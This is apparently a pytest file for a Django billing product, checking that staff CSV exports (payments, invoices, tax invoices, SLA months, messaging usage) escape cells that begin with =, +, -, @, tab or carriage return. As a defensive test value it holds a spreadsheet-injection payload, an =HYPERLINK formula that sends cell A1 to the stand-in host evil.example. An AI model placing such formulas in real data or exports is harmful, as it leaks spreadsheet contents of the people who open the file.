"""Issue #14: every CSV the product writes escapes formula cells (CSV injection, OWASP).

The exports are found, not listed by hand: a ``csv.writer``/``csv.DictWriter`` outside ``core.csvkit``
fails :func:`test_no_csv_writer_outside_csvkit`, and an admin CSV action without a hostile-value test
here fails :func:`test_every_admin_csv_export_is_tested`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from billing.services import payments, tax
from core import clock, csvkit
from core.adminkit import csv_response
from tests.billing.bdocs_support import make_invoice
from tests.factories import CustomerFactory

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
HOSTILE_ROWS = ["=1+1", "+82-10", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE_ROWS)
def test_safe_cell_prefixes_formula_text(value):
    """A text cell starting with = + - @ TAB CR gets a leading quote."""
    assert csvkit.safe_cell(value) == "'" + value


PLAIN = [-5000, 0, 110_000, 1.5, None, dt.date(2026, 11, 10), "주식회사 가온", "a=b"]


@pytest.mark.parametrize("value", PLAIN)
def test_safe_cell_keeps_numbers_and_plain_text(value):
    """Numbers stay numbers (a refund of -5,000 is still -5000); ordinary text is unchanged."""
    assert csvkit.safe_cell(value) == value


def test_csv_response_escapes_every_cell():
    """The admin's CSV download (core.adminkit.csv_response) escapes header and rows."""
    response = csv_response("x.csv", ["=head"], [[HOSTILE, -5000, "-x"]])
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["'=head"], ["'" + HOSTILE, "-5000", "'-x"]]


def test_dict_writer_escapes_values():
    """The privacy export's DictWriter (DAT-1) escapes values too."""
    buffer = io.StringIO()
    out = csvkit.dict_writer(buffer, ["name", "amount"])
    out.writeheader()
    out.writerows([{"name": "@cmd", "amount": -3}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["name", "amount"], ["'@cmd", "-3"]]


WRITER = re.compile(r"\bcsv\.(?:writer|DictWriter)\s*\(")


def _product_sources() -> list[Path]:
    skip = {"tests", "node_modules", "locale", "static", "staticfiles", "media"}
    found = []
    for path in ROOT.rglob("*.py"):
        parts = path.relative_to(ROOT).parts
        if parts[0] in skip or any(part.startswith(".") for part in parts):
            continue
        found.append(path)
    return found


def test_no_csv_writer_outside_csvkit():
    """Every CSV the product writes goes through core.csvkit (so none forgets the escaping)."""
    sources = _product_sources()
    assert len(sources) > 100, "the scan must see the project"
    offenders = [
        str(path.relative_to(ROOT))
        for path in sources
        if path != ROOT / "core" / "csvkit.py" and WRITER.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# --------------------------------------------------------------------------- every admin export


@pytest.fixture
def sla_presets(db):
    from contracts.presets import load_presets

    return load_presets()

TESTED_ADMIN_EXPORTS = {"billing.payment", "billing.invoice", "billing.taxinvoice", "sla.slamonth"}


def test_every_admin_csv_export_is_tested():
    """A new admin CSV action needs a hostile-value test below (and a line in TESTED_ADMIN_EXPORTS)."""
    found = set()
    for model, model_admin in admin.site._registry.items():
        names = [a if isinstance(a, str) else getattr(a, "__name__", "") for a in (model_admin.actions or ())]
        if any("csv" in name for name in names):
            found.add(model._meta.label_lower)
    assert found == TESTED_ADMIN_EXPORTS


def _export(client, label: str, pk: int) -> list[list[str]]:
    app, model = label.split(".")
    response = client.post(
        reverse(f"admin:{app}_{model}_changelist"), {"action": "export_csv", ACTION_CHECKBOX_NAME: [str(pk)]}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _assert_no_formula(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    bad = [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    bad += [cell for cell in cells if cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell)]
    assert bad == []


@pytest.mark.django_db
def test_payments_export_escapes_payer_name(admin_client):
    """Issue #14 (BIL-7): a payer name =HYPERLINK(...) is text in the staff payments export."""
    with clock.frozen(dt.date(2026, 11, 20)):
        customer = CustomerFactory()
        invoice = make_invoice(customer)
        payment = payments.payment_record(
            customer=customer, amount_won=110_000, method="bank_transfer",
            received_on=dt.date(2026, 11, 10), payer_name=HOSTILE, invoice=invoice,
        )
        _assert_no_formula(_export(admin_client, "billing.payment", payment.pk))


@pytest.mark.django_db
def test_invoices_export_escapes_customer_name(admin_client):
    """Issue #14: a customer's legal name starting with = is text in the invoices export."""
    with clock.frozen(dt.date(2026, 11, 20)):
        invoice = make_invoice(CustomerFactory(legal_name=HOSTILE))
        _assert_no_formula(_export(admin_client, "billing.invoice", invoice.pk))


@pytest.mark.django_db
def test_tax_invoice_export_escapes_buyer_name(admin_client):
    """Issue #14 (BIL-18): the tax-invoice CSV escapes the buyer's name."""
    with clock.frozen(dt.date(2026, 11, 20)):
        invoice = make_invoice(CustomerFactory(legal_name=HOSTILE))
        row = tax.tax_invoice_for(invoice=invoice)
        _assert_no_formula(_export(admin_client, "billing.taxinvoice", row.pk))


@pytest.mark.django_db
@pytest.mark.usefixtures("sla_presets")
def test_sla_month_export_escapes_customer_name(admin_client):
    """Issue #14 (SLA-4): the SLA months export escapes the customer's name."""
    from sla.models import SlaMonth
    from tests.sla.conftest import contract_for

    with clock.frozen(dt.date(2026, 11, 20)):
        contract = contract_for("officecore", customer=CustomerFactory(legal_name=HOSTILE))
        month = SlaMonth.objects.create(
            contract=contract, month=dt.date(2026, 10, 1), service_minutes=44_640,
            counted_minutes=0, availability=100, closed_on=dt.date(2026, 11, 1), status="no_credit",
        )
        _assert_no_formula(_export(admin_client, "sla.slamonth", month.pk))


def test_messaging_usage_export_escapes_customer_name():
    """Issue #14 (MSG-9): the messaging usage CSV escapes the customer's name."""
    from messaging.admin_usage import USAGE_COLUMNS, USAGE_STATUSES, usage_csv

    counts = {c: {s: 0 for s in USAGE_STATUSES} for c in USAGE_COLUMNS}
    row = {"customer_id": 1, "customer_name": HOSTILE, "counts": counts,
           "totals": {s: 0 for s in USAGE_STATUSES}, "billable_won": -10}
    response = usage_csv(dt.date(2026, 11, 1), [row])
    _assert_no_formula(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")))))
